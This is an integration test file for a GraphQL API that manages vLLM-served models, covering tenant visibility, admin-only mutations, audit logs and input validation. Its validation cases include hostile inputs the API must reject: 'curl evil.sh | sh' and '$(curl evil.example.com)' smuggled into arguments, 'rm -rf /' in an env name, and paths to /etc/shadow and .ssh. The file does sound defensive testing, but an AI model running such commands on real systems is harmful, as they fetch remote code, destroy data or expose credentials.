import { Queue } from 'bullmq';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NODE_LIFECYCLE_QUEUE } from '@cic/core/jobs/job-catalog';
import { createGraphQLWorld, gql } from './graphql-fixture.ts';

let world: Awaited<ReturnType<typeof createGraphQLWorld>>;
let url: string;
let a: Awaited<ReturnType<typeof world.tenant>>;
let b: Awaited<ReturnType<typeof world.tenant>>;
let queue: Queue;

beforeAll(async () => {
  world = await createGraphQLWorld();
  a = await world.tenant('Acme');
  b = await world.tenant('Bolt');
  url = (await world.startApi()).url;
  queue = new Queue(NODE_LIFECYCLE_QUEUE, { connection: new Redis(world.redis.url, { maxRetriesPerRequest: null }), prefix: world.bullPrefix });
});
afterAll(async () => {
  await queue.close();
  await world.close();
});

const FIELDS = 'id name displayName source maxModelLen enabled isPublic promptPriceMicros completionPriceMicros accelerator vllmVersion vllmArgs secretEnvNames organizations { id }';
const CREATE = `mutation($input: CreateModelInput!) { createModel(input: $input) { ${FIELDS} } }`;
const UPDATE = `mutation($input: UpdateModelInput!) { updateModel(input: $input) { ${FIELDS} } }`;
const ENABLE = 'mutation($id: ID!, $enabled: Boolean!) { setModelEnabled(id: $id, enabled: $enabled) { id enabled } }';
const LIST = '{ models { id name } }';

type ModelRow = { id: string; name: string; source: string | null; accelerator: string | null; vllmArgs: string[] | null; organizations: { id: string }[] | null; isPublic: boolean; enabled: boolean; maxModelLen: number; promptPriceMicros: string };
const codeOf = (r: { errors?: { extensions?: { code?: string } }[] }) => r.errors?.[0]?.extensions?.code;
let seq = 0;
const uniqueName = (base = 'Qwen/Qwen2.5-7B-Instruct') => `${base}-${++seq}`;
const create = async (input: Record<string, unknown>, auth = world.adminToken, headers: Record<string, string> = {}) =>
  gql<{ createModel: ModelRow }>(url, CREATE, { input }, { auth, headers });
const names = async (auth: string, headers: Record<string, string> = {}) =>
  (await gql<{ models: { name: string }[] }>(url, LIST, {}, { auth, headers })).data?.models.map((m) => m.name) ?? [];

describe('createModel', () => {
  it('adds a Hugging Face model with prices and launch defaults, audited with the request id', async () => {
    const name = uniqueName();
    const r = await create({
      name, source: 'Qwen/Qwen2.5-7B-Instruct', displayName: 'Qwen 2.5 7B', maxModelLen: 32768, promptPriceMicros: '200000', completionPriceMicros: '600000',
      accelerator: 'L4:1', vllmVersion: '0.11.0', vllmArgs: ['--enable-auto-tool-choice', '--tool-call-parser', 'hermes'], secretEnvNames: ['HF_TOKEN'],
    }, world.adminToken, { 'x-request-id': 'req-model-create' });
    expect(r.errors).toBeUndefined();
    expect(r.data?.createModel).toMatchObject({
      name, source: 'Qwen/Qwen2.5-7B-Instruct', maxModelLen: 32768, enabled: true, isPublic: true, promptPriceMicros: '200000',
      accelerator: 'L4:1', vllmArgs: ['--enable-auto-tool-choice', '--tool-call-parser', 'hermes'], organizations: [],
    });
    const id = r.data!.createModel.id;
    expect(id).toMatch(/^mdl_/);
    const audit = await world.prisma.auditLog.findFirst({ where: { action: 'model.create', targetId: id } });
    expect(audit).toMatchObject({ actorType: 'USER', actorId: world.admin.id, requestId: 'req-model-create', metadata: { name, source: 'Qwen/Qwen2.5-7B-Instruct', isPublic: true } });
    // Public: every tenant lists it, through a session or a graphql key.
    expect(await names(a.ownerToken)).toContain(name);
    expect(await names(b.apiKey.secret)).toContain(name);
  });

  it.each([
    ['a space', { name: 'bad name' }, 'name'],
    ['a dot-dot part', { name: 'org/../etc' }, 'name'],
    ['a leading slash', { name: '/etc/passwd' }, 'name'],
    ['four parts', { name: 'a/b/c/d' }, 'name'],
    ['an empty name', { name: '' }, 'name'],
    ['a long name', { name: 'x'.repeat(129) }, 'name'],
    ['a line break in the name', { name: 'ok\nx' }, 'name'],
    ['a URL as source', { source: 'https://evil.example.com/m' }, 'source'],
    ['a relative path with ..', { source: '../../root/.ssh' }, 'source'],
    ['a negative prompt price', { promptPriceMicros: '-1' }, 'promptPriceMicros'],
    ['a price above 1,000 USD', { completionPriceMicros: String(10n ** 10n) }, 'completionPriceMicros'],
    ['a line break in a vLLM argument', { vllmArgs: ['--max-model-len', '8192\ncurl evil.sh | sh'] }, 'vllmArgs'],
    ['a shell substitution in a vLLM argument', { vllmArgs: ['--chat-template', '$(curl evil.example.com)'] }, 'vllmArgs'],
    ['a vLLM argument with a space', { vllmArgs: ['--chat-template /etc/shadow'] }, 'vllmArgs'],
    ['--api-key among the vLLM arguments (CIC sets it)', { vllmArgs: ['--api-key', 'mine'] }, 'vllmArgs'],
    ['--served-model-name among the vLLM arguments', { vllmArgs: ['--served-model-name=other'] }, 'vllmArgs'],
    ['an env name CIC sets itself', { secretEnvNames: ['VLLM_API_KEY'] }, 'secretEnvNames'],
    ['an env name that is not one', { secretEnvNames: ['HF_TOKEN; rm -rf /'] }, 'secretEnvNames'],
    ['an accelerator with YAML in it', { accelerator: 'H100:1\nsetup: curl evil' }, 'accelerator'],
    ['a zero context length', { maxModelLen: 0 }, 'maxModelLen'],
    ['an unknown organization', { isPublic: false, organizationIds: ['org_nope'] }, 'organizationIds'],
  ])('refuses %s with BAD_USER_INPUT naming the field, creating nothing', async (_what, bad, field) => {
    const before = await world.prisma.servedModel.count();
    const r = await create({ name: uniqueName(), ...bad });
    expect(codeOf(r)).toBe('BAD_USER_INPUT');
    expect(r.errors?.[0]?.message).toContain(field);
    expect(await world.prisma.servedModel.count()).toBe(before);
  });

  it('refuses a name that exists (CONFLICT)', async () => {
    const r = await create({ name: world.model.name });
    expect(codeOf(r)).toBe('CONFLICT');
  });

  it('is for platform admins only: owners, members, graphql keys and anonymous callers are refused', async () => {
    const name = uniqueName('intruder/model');
    for (const auth of [a.ownerToken, a.memberToken, a.apiKey.secret]) expect(codeOf(await create({ name }, auth))).toBe('FORBIDDEN');
    expect(codeOf(await gql(url, CREATE, { input: { name } }))).toBe('UNAUTHENTICATED');
    expect(await world.prisma.servedModel.count({ where: { name } })).toBe(0);
  });
});

describe('visibility', () => {
  it('a limited model is listed and found only for its organizations; its launch settings only for admins', async () => {
    const name = uniqueName('acme/private');
    const r = await create({ name, isPublic: false, organizationIds: [a.org.id] });
    expect(r.data?.createModel).toMatchObject({ isPublic: false, organizations: [{ id: a.org.id }] });
    const id = r.data!.createModel.id;
    expect(await names(a.ownerToken)).toContain(name);
    expect(await names(a.apiKey.secret)).toContain(name);
    expect(await names(b.ownerToken)).not.toContain(name);
    expect(await names(b.apiKey.secret)).not.toContain(name);
    expect(await names(world.adminToken)).toContain(name);
    const byId = 'query($id: ID!) { node(id: $id) { id ... on Model { name } } }';
    expect((await gql(url, byId, { id }, { auth: b.ownerToken })).data).toEqual({ node: null });
    expect((await gql(url, byId, { id }, { auth: a.memberToken })).data).toEqual({ node: { id, name } });
    const internals = await gql<{ models: { vllmArgs: string[] | null }[] }>(url, '{ models { name vllmArgs } }', {}, { auth: a.ownerToken });
    expect(codeOf(internals)).toBe('FORBIDDEN');
  });

  it('a user in several organizations sees what the selected one may use', async () => {
    const name = uniqueName('bolt/private');
    await create({ name, isPublic: false, organizationIds: [b.org.id] });
    await world.prisma.membership.create({ data: { userId: a.owner.id, organizationId: b.org.id, role: 'MEMBER' } });
    expect(await names(a.ownerToken, { 'x-organization-id': a.org.id })).not.toContain(name);
    expect(await names(a.ownerToken, { 'x-organization-id': b.org.id })).toContain(name);
  });
});

describe('updateModel', () => {
  it('changes the given fields, audits old and new values, clears with null, and writes nothing when nothing changes', async () => {
    const created = (await create({ name: uniqueName(), source: 'Qwen/Qwen2.5-7B-Instruct', accelerator: 'L4:1' })).data!.createModel;
    const r = await gql<{ updateModel: ModelRow }>(url, UPDATE, {
      input: { id: created.id, accelerator: null, maxModelLen: 8192, vllmArgs: ['--chat-template-content-format', 'openai'], isPublic: false, organizationIds: [b.org.id] },
    }, { auth: world.adminToken, headers: { 'x-request-id': 'req-model-update' } });
    expect(r.errors).toBeUndefined();
    expect(r.data?.updateModel).toMatchObject({ accelerator: null, maxModelLen: 8192, vllmArgs: ['--chat-template-content-format', 'openai'], isPublic: false, organizations: [{ id: b.org.id }] });
    const audit = await world.prisma.auditLog.findFirst({ where: { action: 'model.update', targetId: created.id } });
    expect(audit).toMatchObject({
      requestId: 'req-model-update',
      metadata: { from: { accelerator: 'L4:1', maxModelLen: 4096, isPublic: true, organizationIds: [] }, to: { accelerator: null, maxModelLen: 8192, isPublic: false, organizationIds: [b.org.id] } },
    });
    expect(Object.keys((audit!.metadata as { to: object }).to)).not.toContain('source');
    await gql(url, UPDATE, { input: { id: created.id, maxModelLen: 8192 } }, { auth: world.adminToken });
    expect(await world.prisma.auditLog.count({ where: { action: 'model.update', targetId: created.id } })).toBe(1);
  });

  it('validates like createModel, never renames, and refuses non-admins and unknown ids', async () => {
    const id = world.model.id;
    expect(codeOf(await gql(url, UPDATE, { input: { id, vllmArgs: ['--x\n--y'] } }, { auth: world.adminToken }))).toBe('BAD_USER_INPUT');
    expect(codeOf(await gql(url, UPDATE, { input: { id, maxModelLen: null } }, { auth: world.adminToken }))).toBe('BAD_USER_INPUT');
    expect(codeOf(await gql(url, UPDATE, { input: { id, organizationIds: ['org_nope'] } }, { auth: world.adminToken }))).toBe('BAD_USER_INPUT');
    // The input has no name: a served name never changes (its nodes serve it).
    expect(codeOf(await gql(url, UPDATE, { input: { id, name: 'renamed' } }, { auth: world.adminToken }))).toBe('GRAPHQL_VALIDATION_FAILED');
    expect(codeOf(await gql(url, UPDATE, { input: { id: 'mdl_nope', maxModelLen: 100 } }, { auth: world.adminToken }))).toBe('NOT_FOUND');
    for (const auth of [a.ownerToken, b.apiKey.secret]) expect(codeOf(await gql(url, UPDATE, { input: { id, maxModelLen: 100 } }, { auth }))).toBe('FORBIDDEN');
    expect((await world.prisma.servedModel.findUniqueOrThrow({ where: { id } })).maxModelLen).toBe(4096);
  });
});

describe('setModelEnabled', () => {
  it('disables (unlisted for tenants, audited once), re-enables, refuses non-admins', async () => {
    const { id, name } = (await create({ name: uniqueName() })).data!.createModel;
    for (let i = 0; i < 2; i++) expect((await gql<{ setModelEnabled: { enabled: boolean } }>(url, ENABLE, { id, enabled: false }, { auth: world.adminToken })).data?.setModelEnabled.enabled).toBe(false);
    expect(await world.prisma.auditLog.count({ where: { action: 'model.disable', targetId: id } })).toBe(1);
    expect(await names(a.ownerToken)).not.toContain(name);
    expect(await names(world.adminToken)).toContain(name);
    const launch = await gql(url, 'mutation($input: LaunchNodeInput!) { launchNode(input: $input) { id } }', { input: { model: name, provider: 'LOCAL' } }, { auth: world.adminToken });
    expect(launch.errors?.[0]).toMatchObject({ message: expect.stringContaining('disabled'), extensions: { code: 'BAD_USER_INPUT' } });
    await gql(url, ENABLE, { id, enabled: true }, { auth: world.adminToken });
    expect(await names(a.ownerToken)).toContain(name);
    expect(await world.prisma.auditLog.count({ where: { action: 'model.enable', targetId: id } })).toBe(1);
    for (const auth of [a.ownerToken, a.apiKey.secret]) expect(codeOf(await gql(url, ENABLE, { id, enabled: false }, { auth }))).toBe('FORBIDDEN');
    expect(codeOf(await gql(url, ENABLE, { id: 'mdl_nope', enabled: false }, { auth: world.adminToken }))).toBe('NOT_FOUND');
  });
});

describe('launchNode with the model\'s defaults', () => {
  const LAUNCH = 'mutation($input: LaunchNodeInput!) { launchNode(input: $input) { id accelerator } }';

  it('a launch gets the model\'s source, accelerator, vLLM version, args and env names; its own settings replace them', async () => {
    const name = uniqueName();
    await create({ name, source: 'Qwen/Qwen2.5-7B-Instruct', accelerator: 'L4:1', vllmVersion: '0.10.2', vllmArgs: ['--tool-call-parser', 'hermes'], secretEnvNames: ['HF_TOKEN', 'WANDB_API_KEY'] });
    const plain = await gql<{ launchNode: { id: string; accelerator: string } }>(url, LAUNCH, { input: { model: name } }, { auth: world.adminToken });
    expect(plain.errors).toBeUndefined();
    expect(plain.data?.launchNode.accelerator).toBe('L4:1');
    const node = await world.prisma.node.findUniqueOrThrow({ where: { id: plain.data!.launchNode.id } });
    expect(node.config).toMatchObject({ modelSource: 'Qwen/Qwen2.5-7B-Instruct', vllmVersion: '0.10.2', vllmArgs: ['--tool-call-parser', 'hermes'], secretEnvNames: ['HF_TOKEN', 'WANDB_API_KEY'] });

    const own = await gql<{ launchNode: { id: string; accelerator: string } }>(url, LAUNCH, { input: { model: name, accelerator: 'H100:1', config: { vllmArgs: ['--max-model-len', '8192'] } } }, { auth: world.adminToken });
    expect(own.data?.launchNode.accelerator).toBe('H100:1');
    const ownNode = await world.prisma.node.findUniqueOrThrow({ where: { id: own.data!.launchNode.id } });
    expect(ownNode.config).toMatchObject({ modelSource: 'Qwen/Qwen2.5-7B-Instruct', vllmArgs: ['--max-model-len', '8192'] });
  });
});
